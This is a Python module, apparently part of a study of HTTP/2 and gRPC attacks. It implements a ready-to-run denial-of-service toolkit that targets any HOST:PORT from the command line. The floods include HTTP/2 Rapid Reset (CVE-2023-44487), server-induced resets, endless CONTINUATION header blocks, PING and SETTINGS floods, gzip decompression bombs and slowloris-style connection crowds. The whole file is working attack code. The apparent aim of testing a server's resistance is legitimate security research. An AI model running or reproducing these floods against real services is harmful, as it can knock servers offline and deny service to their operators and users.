"""The floods: each sends as fast as it can for some seconds, and connects again when it is thrown out.

A flood takes an address and the time (of `time.monotonic`) when it ends; it returns how many frames (or sockets,
bytes, calls) it sent. ``python -m studies.attacks.http2.floods NAME HOST:PORT SECONDS`` runs one alone.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterator

from studies.attacks.http2.frames import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    frame,
    headers,
    message,
)

CONNECTIONS = 4
BATCH = 2000
"""Frames in one write."""

Flood = Callable[[str, float], int]
FLOODS: dict[str, Flood] = {}


def flood(made: Flood) -> Flood:
    FLOODS[made.__name__.replace("_", " ")] = made
    return made


def hammer(
    address: str, until: float, batches: Callable[[Connection], Iterator[bytes]], each: int, reads: bool = True
) -> int:
    """Batches of ``each`` frames on `CONNECTIONS` connections at a time, opened again whenever they are closed."""
    sent = [0] * CONNECTIONS

    def one(number: int) -> None:
        while time.monotonic() < until:
            try:
                connection = Connection(address, reads, receive_bytes=0 if reads else 4096)
            except OSError:
                time.sleep(0.05)
                continue
            try:
                for batch in batches(connection):
                    connection.send(batch)
                    sent[number] += each
                    if time.monotonic() >= until:
                        break
            except OSError:
                pass
            finally:
                connection.close()

    together([threading.Thread(target=one, args=(number,), daemon=True) for number in range(CONNECTIONS)], until)
    return sum(sent)


def together(threads: list[threading.Thread], until: float) -> None:
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.0, until + 1 - time.monotonic()))


def repeated(batch: bytes, first: bytes = b"") -> Callable[[Connection], Iterator[bytes]]:
    def batches(connection: Connection) -> Iterator[bytes]:
        connection.send(first)
        while True:
            yield batch

    return batches


def opened(method: str, then: bytes = b"", flags: int = 0) -> Callable[[Connection], Iterator[bytes]]:
    """Ever new streams; ``then``: a frame's kind and payload that follows each, its stream filled in."""
    block = headers(method)

    def batches(connection: Connection) -> Iterator[bytes]:
        stream = 1
        while stream < 1 << 30:
            parts = []
            for _ in range(BATCH):
                parts.append(frame(HEADERS, END_HEADERS | flags, stream, block))
                if then:
                    parts.append(frame(then[0], 0, stream, then[1:]))
                stream += 2
            yield b"".join(parts)

    return batches


@flood
def rapid_reset(address: str, until: float) -> int:
    """Streams opened and cancelled at once (CVE-2023-44487)."""
    return hammer(address, until, opened("ListModels", then=bytes([RST_STREAM]) + CANCEL), 2 * BATCH)


@flood
def rapid_reset_of_sessions(address: str, until: float) -> int:
    """The same with streams that take a thread."""
    return hammer(address, until, opened("Session", then=bytes([RST_STREAM]) + CANCEL), 2 * BATCH)


@flood
def made_to_reset(address: str, until: float) -> int:
    """Streams that the server itself must reset: a window update of zero follows each (CVE-2025-8671)."""
    return hammer(address, until, opened("ListModels", then=bytes([WINDOW_UPDATE]) + bytes(4)), 2 * BATCH)


@flood
def half_closed_calls(address: str, until: float) -> int:
    """Calls without a message: each is answered by an error."""
    return hammer(address, until, opened("ListModels", flags=END_STREAM), BATCH)


@flood
def unknown_methods(address: str, until: float) -> int:
    """Calls of nothing that there is."""
    return hammer(address, until, opened("/nothing/there", flags=END_STREAM), BATCH)


@flood
def open_streams(address: str, until: float) -> int:
    """100,000 streams on one connection, opened and left so."""
    sent, connection = 0, Connection(address)
    block = headers("Session")
    try:
        for first in range(0, 100_000, BATCH):
            streams = range(2 * first + 1, 2 * (first + BATCH) + 1, 2)
            connection.send(b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in streams))
            sent += BATCH
    except OSError:
        pass
    time.sleep(max(0.0, until - time.monotonic()))
    connection.close()
    return sent


@flood
def pings(address: str, until: float) -> int:
    return hammer(address, until, repeated(frame(PING, payload=bytes(8)) * BATCH), BATCH)


@flood
def pings_whose_answers_nobody_reads(address: str, until: float) -> int:
    return hammer(address, until, repeated(frame(PING, payload=bytes(8)) * BATCH), BATCH, reads=False)


@flood
def settings(address: str, until: float) -> int:
    """Each changes the initial window, and must be acknowledged."""
    pair = b"".join(frame(SETTINGS, payload=struct.pack(">HI", 4, size)) for size in (1 << 16, 1 << 15))
    return hammer(address, until, repeated(pair * (BATCH // 2)), BATCH)


@flood
def settings_whose_acknowledgements_nobody_reads(address: str, until: float) -> int:
    pair = b"".join(frame(SETTINGS, payload=struct.pack(">HI", 4, size)) for size in (1 << 16, 1 << 15))
    return hammer(address, until, repeated(pair * (BATCH // 2)), BATCH, reads=False)


@flood
def window_updates(address: str, until: float) -> int:
    return hammer(address, until, repeated(frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * BATCH), BATCH)


@flood
def priorities(address: str, until: float) -> int:
    return hammer(address, until, repeated(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1)) * BATCH), BATCH)


@flood
def unknown_frames(address: str, until: float) -> int:
    return hammer(address, until, repeated(frame(0xBE, 0, 0, bytes(4)) * BATCH), BATCH)


@flood
def empty_data(address: str, until: float) -> int:
    """On a stream that is open, so that none is an error."""
    first = frame(HEADERS, END_HEADERS, 1, headers("Session"))
    return hammer(address, until, repeated(frame(DATA, 0, 1) * BATCH, first), BATCH)


@flood
def continuations(address: str, until: float) -> int:
    """A header block that never ends (VU#421644)."""
    field = headers(more=[("x", "y" * 100)])[-104:]
    first = frame(HEADERS, 0, 1, headers("Session"))
    return hammer(address, until, repeated(frame(CONTINUATION, 0, 1, field) * BATCH, first), BATCH)


@flood
def empty_continuations(address: str, until: float) -> int:
    first = frame(HEADERS, 0, 1, headers("Session"))
    return hammer(address, until, repeated(frame(CONTINUATION, 0, 1) * BATCH, first), BATCH)


@flood
def large_metadata(address: str, until: float) -> int:
    """Streams that open with 1 MiB of metadata."""
    block = headers("ListModels", [(f"x-{number}", "y" * 8000) for number in range(130)])

    def batches(_: Connection) -> Iterator[bytes]:
        stream = 1
        while True:
            pieces = [block[at : at + 16000] for at in range(0, len(block), 16000)]
            parts = [frame(HEADERS, 0, stream, pieces[0])]
            parts += [frame(CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
            yield b"".join([*parts, frame(CONTINUATION, END_HEADERS, stream, pieces[-1])])
            stream += 2

    return hammer(address, until, batches, len(block) // 16000 + 1)


@flood
def bombs_of_gzip(address: str, until: float) -> int:
    """Messages of 8 MiB that become 8 GiB: gzip, as the call's header announces."""
    return _bombs(address, until, 8 << 20)


@flood
def small_bombs_of_gzip(address: str, until: float) -> int:
    """Messages of 16 kB that become 16 MiB, many at once."""
    return _bombs(address, until, 16 << 10)


def _bombs(address: str, until: float, size: int) -> int:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    start = packer.compress(bytes(1 << 22)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(1 << 22)) + packer.flush(zlib.Z_FULL_FLUSH)  # depends on nothing before it
    bomb = start + again * ((size - len(start)) // len(again)) + packer.flush()  # its sum is wrong, at the end
    body = message(bomb, compressed=True)
    begin = headers("Session", [("grpc-encoding", "gzip")])
    pieces = [body[at : at + 16384] for at in range(0, len(body), 16384)]

    def batches(connection: Connection) -> Iterator[bytes]:
        # The connection's window is 64 KiB until the server says more: wait a little for that, as any client would.
        stream = 1
        while True:
            yield frame(HEADERS, END_HEADERS, stream, begin)
            for piece in pieces:
                yield frame(DATA, 0, stream, piece)
                if len(pieces) > 4:
                    time.sleep(0.001)
            time.sleep(0.01)
            stream += 2

    return hammer(address, until, batches, 1)


@flood
def silent_sockets(address: str, until: float) -> int:
    """1,500 that say nothing at all; those that are closed are opened again."""
    return _crowd(address, until, 1500, b"")


@flood
def silent_connections(address: str, until: float) -> int:
    """1,500 that say the preface, and nothing more."""
    from studies.attacks.http2.frames import PREFACE

    return _crowd(address, until, 1500, PREFACE + frame(SETTINGS))


@flood
def slow_bytes(address: str, until: float) -> int:
    """300 connections that send one byte a second of their first call."""
    from studies.attacks.http2.frames import PREFACE

    start = PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, headers("ListModels"))
    return _crowd(address, until, 300, b"", start)


def _crowd(address: str, until: float, size: int, first: bytes, slowly: bytes = b"") -> int:
    """So many connections at a time that say ``first``, and then one byte of ``slowly`` a second."""
    host, _, port = address.rpartition(":")
    crowd: list[tuple[socket.socket, list[int]]] = []
    made = 0
    while time.monotonic() < until:
        left = []
        for one, at in crowd:
            try:
                if slowly and at[0] < len(slowly):
                    one.send(slowly[at[0] : at[0] + 1])
                    at[0] += 1
                while one.recv(1 << 14):
                    pass
                one.close()
            except BlockingIOError:
                left.append((one, at))
            except OSError:
                one.close()
        crowd = left
        for _ in range(min(size - len(crowd), 500)):
            one = socket.socket()
            one.settimeout(1)
            try:
                one.connect((host, int(port)))
                one.sendall(first)
                one.setblocking(False)
            except OSError:
                one.close()
                break
            crowd.append((one, [0]))
            made += 1
        time.sleep(1 if slowly else 0.2)
    for one, _ in crowd:
        one.close()
    return made


@flood
def connections_opened_and_closed(address: str, until: float) -> int:
    """One after the other, each with the preface and a call."""
    call = frame(HEADERS, END_HEADERS | END_STREAM, 1, headers("ListModels"))
    made = 0
    while time.monotonic() < until:
        try:
            connection = Connection(address, reads=False)
            connection.send(call)
            connection.close()
            made += 1
        except OSError:
            time.sleep(0.02)
    return made


@flood
def answers_nobody_reads(address: str, until: float) -> int:
    """Calls whose answers do not fit a window of nothing; each connection makes as many as it may."""
    empty = message(b"")
    block = headers("ListModels")

    def batches(connection: Connection) -> Iterator[bytes]:
        connection.send(frame(SETTINGS, payload=struct.pack(">HI", 4, 0)))
        stream = 1
        while stream < 1 << 30:
            parts = []
            for _ in range(100):
                parts += [frame(HEADERS, END_HEADERS, stream, block), frame(DATA, END_STREAM, stream, empty)]
                stream += 2
            yield b"".join(parts)

    return hammer(address, until, batches, 200)


def main() -> None:
    name, address, seconds = sys.argv[1:]
    began = time.monotonic()
    sent = FLOODS[name](address, began + float(seconds))
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - began, 1)}), flush=True)
    os._exit(0)  # threads that are stuck in a send are nobody's concern


if __name__ == "__main__":
    main()
